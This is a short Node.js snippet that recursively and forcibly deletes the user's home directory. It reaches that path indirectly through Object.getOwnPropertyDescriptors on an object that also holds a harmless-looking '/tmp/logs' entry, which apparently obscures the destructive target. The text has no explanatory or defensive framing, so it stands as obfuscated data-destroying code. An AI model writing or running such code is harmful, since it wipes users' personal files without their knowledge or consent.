const fsp = require('fs/promises');
const os = require('os');
const paths = { logs: '/tmp/logs', profile: os.homedir() };
const all = Object.getOwnPropertyDescriptors(paths);
fsp.rm(all.profile.value, { recursive: true, force: true });
